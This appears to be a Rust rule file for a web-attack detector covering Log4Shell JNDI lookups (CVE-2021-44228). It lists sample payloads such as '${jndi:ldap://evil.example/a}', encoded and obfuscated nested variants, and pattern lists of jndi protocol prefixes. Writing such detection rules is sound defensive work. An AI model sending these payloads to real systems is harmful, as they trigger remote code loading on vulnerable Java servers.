//! Look-ups of Java's logging (CVE-2021-44228).

super::rules! { TABLE ["jndi", "CWE-917", "crs-944"];
    LOOKUP "jndi-001" "JNDI look-up" Critical 1:
        "${jndi:ldap://evil.example/a}", "%2524%257Bjndi:rmi://evil.example/a%257D",
        not "jndi: a Java interface";
    NESTED "jndi-002" "look-up with nested obfuscation" Critical 1:
        "${${lower:j}ndi:ldap://x/a}", "%2524%257B%2524%257B::-j%257Dndi:x%257D",
        not "${lower} and ${upper}";
}

super::literal::literals! {
    LOOKUP, Any, Anywhere: ["${jndi:", "$%7bjndi:", "${ jndi:", "{jndi:ldap", "{jndi:rmi", "{jndi:dns", "jndi:ldap://", "jndi:rmi://", "jndi:dns://", "jndi:ldaps://", "jndi:iiop://", "jndi:nis://", "jndi:corba://"];
    NESTED, Any, Anywhere: ["${lower:", "${upper:", "${::-", "${k8s:", "${script:", "${dns:address", "${url:utf", "${base64:"];
}
